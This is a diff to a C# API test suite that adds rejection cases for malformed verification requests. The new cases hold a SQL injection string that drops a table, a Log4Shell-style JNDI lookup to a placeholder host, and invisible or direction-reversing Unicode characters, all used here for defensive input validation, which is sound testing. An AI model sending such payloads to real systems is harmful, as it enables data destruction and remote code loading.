@@ -76,6 +76,10 @@ public sealed class VerificationTests(ApiFixture host) : IClassFixture<ApiFixtur
     [InlineData("""{"serial":"","organisationId":"x"}""", HttpStatusCode.UnprocessableEntity, "invalid_serial")]
     [InlineData("""{"serial":"a/b","organisationId":"x"}""", HttpStatusCode.UnprocessableEntity, "invalid_serial")]
     [InlineData("""{"serial":"nvidia:1","organisationId":" "}""", HttpStatusCode.UnprocessableEntity, "invalid_organisation")]
+    [InlineData("""{"serial":"'; drop table events; --","organisationId":"x"}""", HttpStatusCode.UnprocessableEntity, "invalid_serial")]
+    [InlineData("""{"serial":"nvidia:1\u200b","organisationId":"x"}""", HttpStatusCode.UnprocessableEntity, "invalid_serial")]
+    [InlineData("""{"serial":"nvidia:1","organisationId":"${jndi:ldap://x.example/a}"}""", HttpStatusCode.UnprocessableEntity, "invalid_organisation")]
+    [InlineData("""{"serial":"nvidia:1","organisationId":"dist\u202e1"}""", HttpStatusCode.UnprocessableEntity, "invalid_organisation")]
     public async Task bad_verification_requests_get_a_problem_and_are_not_logged(string body, HttpStatusCode status, string code)
     {
         var key = await host.OrganisationKeyAsync($"vf-bad-{Guid.NewGuid():N}", OrganisationKind.Distributor);
